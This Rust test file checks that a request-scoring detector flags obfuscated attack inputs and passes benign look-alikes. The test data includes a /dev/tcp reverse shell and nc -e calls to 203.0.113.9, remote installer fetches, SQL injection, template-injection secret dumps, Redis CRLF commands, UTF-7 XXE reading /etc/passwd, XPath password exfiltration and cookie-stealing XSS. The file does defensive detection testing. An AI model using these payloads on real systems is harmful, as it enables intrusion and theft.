//! Issue 12, red-team pass of session 39 (pass 4 in docs/REDTEAM.md): SQL keywords separated by
//! NBSP, control bytes or other Unicode spaces; numeric-context SQL that reached no gate rule;
//! more shell wrappers, here-strings, case-changed empty variables and Windows installers;
//! loopback names with a trailing or ideographic dot; Redis and memcached commands after a
//! line break; Jinja `{%print%}`, Freemarker special variables and Go template actions; key
//! paths given as values and Python class pollution; UTF-7 XXE; NTFS streams; XPath `doc()`.
//! Each is flagged at level 1 and its benign look-alike is not.

mod common;

use common::placed::{assert_flagged, assert_passed, encode};
use common::{engine_with_models, patterns_only};
use scoring::detectors::SQLI;
use scoring::ScoreInput;

/// The reason the patterns-only engine gives `text` with `headers` at level 1, if flagged.
fn flagged(text: &str, headers: &[(&str, &str)]) -> Option<String> {
    let engine = patterns_only();
    let headers: Vec<(String, String)> = headers.iter().map(|(n, v)| (n.to_string(), v.to_string())).collect();
    let r = engine.score_patterns(&ScoreInput { request_text: text, headers: &headers });
    (r.score > engine.threshold()).then_some(r.reason)
}

/// MySQL reads NBSP (a lone `%a0`, or UTF-8 `%c2%a0`) and MSSQL reads control bytes as
/// whitespace; the decoded view reads them as spaces, so the SQLi model sees the keywords.
/// Numeric-context SQL that no gate rule selected (EXISTS, a subquery under `^`, procedure
/// calls, out-of-query functions) reaches the model now.
#[tokio::test]
async fn odd_whitespace_and_numeric_calls_reach_the_sqli_model() {
    let engine = engine_with_models();
    let form = vec![("content-type".to_string(), "application/x-www-form-urlencoded".to_string())];
    let json = vec![("content-type".to_string(), "application/json".to_string())];
    let cases = [
        ("GET /search?id=-1%a0UNION%a0SELECT%a0username,password%a0FROM%a0users\n".to_string(), &vec![]),
        ("GET /search?id=1%c2%a0UNION%c2%a0SELECT%c2%a0password%c2%a0FROM%c2%a0users\n".to_string(), &vec![]),
        ("GET /search?id=1%a0AND%a0SLEEP(5)\n".to_string(), &vec![]),
        ("POST /submit\nid=-1%01UNION%01SELECT%011,password%01FROM%01users".to_string(), &form),
        ("POST /submit\nid=-1%1cUNION%1cSELECT%1c1,password%1cFROM%1cusers".to_string(), &form),
        (
            format!("POST /api/items\n{}", serde_json::json!({ "id": "-1\u{a0}UNION\u{a0}SELECT\u{a0}password\u{a0}FROM\u{a0}users" })),
            &json,
        ),
        (format!("GET /item?id={}\n", encode("1 and not exists(select 1)")), &vec![]),
        (format!("GET /item?id={}\n", encode("1^(select 1)")), &vec![]),
        (format!("GET /item?id={}\n", encode("1 exec master..xp_dirtree '\\\\203.0.113.9\\a'")), &vec![]),
        (format!("GET /item?id={}\n", encode("1 and load_extension('/tmp/x.so')")), &vec![]),
    ];
    for (text, headers) in &cases {
        let r = engine.score_all(&ScoreInput { request_text: text, headers }).await;
        assert!(r.breakdown.get(SQLI) > engine.threshold(), "{text:?}: {r:?}");
    }
    for benign in
        ["GET /s?q=caf%c3%a9%c2%a0cr%c3%a8me\n", "GET /s?q=how%20to%20use%20exists%20in%20sql\n", "GET /s?q=2%c2%a0000%c2%a0EUR\n"]
    {
        let r = engine.score_all(&ScoreInput { request_text: benign, headers: &[] }).await;
        assert!(r.score <= engine.threshold(), "{benign:?}: {r:?}");
    }
}

#[test]
fn wrappers_here_strings_installers_and_dynamic_calls_are_command_injection() {
    for value in [
        ";coproc bash -i >&/dev/tcp/203.0.113.9/4444 0>&1",
        ";builtin eval 'nc 203.0.113.9 4444 -e sh'",
        ";sh<<<id",
        ";ps aux",
        ";${x,,}wget 203.0.113.9/x -O /tmp/x",
        "& msiexec /q /i http://203.0.113.9/x.msi",
        "& pcalua -a calc.exe",
        "& curl.exe -o x.exe http://203.0.113.9/x.exe",
        ";&('whoa'+'mi')",
        "$x='who';$y='ami';&($x+$y)",
        ";.($env:comspec[4,15,25]-join'')",
        "-exec id ;",
    ] {
        let text = format!("GET /ping?host={}\n", encode(value));
        assert!(flagged(&text, &[]).is_some_and(|r| r.starts_with("command-injection:")), "{value:?}");
    }
    assert_passed(&["env vars for staging", "ps and qs", "R&D ($5k budget)", "x&&('a'+'b')", "-executive summary"]);
}

#[test]
fn loopback_names_with_odd_dots_are_ssrf() {
    for url in [
        "http://localhost./admin",
        "http://LOCALHOST.:8080/admin",
        "http://127。0。0。1/admin",
        "http://localhost。/admin",
        "http://anything.localhost/admin",
        "http://ip6-localhost/admin",
        "http://[::1%25eth0]/admin",
    ] {
        assert_eq!(flagged(&format!("GET /fetch?url={}\n", encode(url)), &[]).as_deref(), Some("ssrf:loopback-url"), "{url}");
    }
    for url in ["http://localhost:3000/callback", "http://app.localhost:3000/callback", "https://localhost.example.com/x"] {
        assert_eq!(flagged(&format!("GET /fetch?url={}\n", encode(url)), &[]), None, "{url}");
    }
}

#[test]
fn template_dumps_are_ssti() {
    for value in [
        "{%print(config)%}",
        "{%print(7*7)%}",
        "${.data_model}",
        "${.vars['password']}",
        "{{printf \"%s\" .Secret}}",
        "{{define \"T1\"}}{{.}}{{end}}",
    ] {
        let text = format!("GET /hello?name={}\n", encode(value));
        assert!(flagged(&text, &[]).is_some_and(|r| r.starts_with("ssti:")), "{value:?}");
    }
    assert_passed(&["{{ user.name }}", "print this page", "${total}", "{{#each items}}{{name}}{{/each}}"]);
}

#[test]
fn store_commands_after_a_break_are_crlf() {
    for key in
        ["x%0d%0aFLUSHALL%0d%0a", "x%0d%0aCONFIG%20SET%20dir%20/var/www/html%0d%0a", "x%0d%0aset%20admin%200%200%204%0d%0atrue%0d%0a"]
    {
        assert_eq!(flagged(&format!("GET /cache?key={key}\n"), &[]).as_deref(), Some("crlf:store-command"), "{key}");
    }
}

#[test]
fn key_paths_as_values_and_python_class_pollution() {
    let json = [("content-type", "application/json")];
    for body in [
        r#"{"path":"__proto__.isAdmin","value":true}"#,
        r#"{"__class__":{"__init__":{"__globals__":{"SECRET_KEY":"x"}}}}"#,
        r#"{"__init__.__globals__.app.config.SECRET_KEY":"x"}"#,
    ] {
        // The `__globals__` key also matches the SSTI dunder rule, which may win the tie.
        let reason = flagged(&format!("POST /api/settings\n{body}"), &json);
        assert!(
            reason.as_deref().is_some_and(|r| r.starts_with("prototype-pollution:") || r == "ssti:python-dunder"),
            "{body}: {reason:?}"
        );
    }
    assert_eq!(flagged("GET /api/items?__pro__proto__to__[isAdmin]=true\n", &[]).as_deref(), Some("prototype-pollution:key-path"));
    assert_eq!(flagged("POST /api/settings\n{\"path\":\"user.profile.name\",\"value\":1}", &json), None);
}

#[test]
fn utf7_xml_ntfs_streams_and_xpath_doc_calls() {
    let xml = [("content-type", "application/xml")];
    let utf7 = "<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-+ACE-DOCTYPE r +AFs-+ADw-+ACE-ENTITY x SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-+ADw-r+AD4-+ACY-x+ADs-+ADw-/r+AD4-";
    assert!(flagged(&format!("POST /api/xml\n{utf7}"), &xml).is_some_and(|r| r.starts_with("xxe:")));
    assert_flagged("path-traversal:ntfs-data-stream", &["index.php::$DATA", "Web.config::$INDEX_ALLOCATION"]);
    assert_flagged("xpath-injection:xpath-out-of-band", &["doc(concat('http://203.0.113.9/',//user[1]/password))"]);
    assert_passed(&["self::$data", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>", "the doc(ument) says"]);
}

/// Zero-width characters inside keywords are removed in the decoded view.
#[test]
fn zero_width_characters_do_not_split_keywords() {
    for value in ["<img src=x on\u{200b}error=al\u{200b}ert(document.cookie)>", ";ca\u{200b}t /et\u{200b}c/pa\u{200b}sswd"] {
        let text = format!("POST /x\n{}", serde_json::json!({ "a": [value] }));
        assert!(flagged(&text, &[("content-type", "application/json")]).is_some(), "{value:?}");
    }
    assert_passed(&["family \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} photo", "soft\u{ad}ware"]);
}
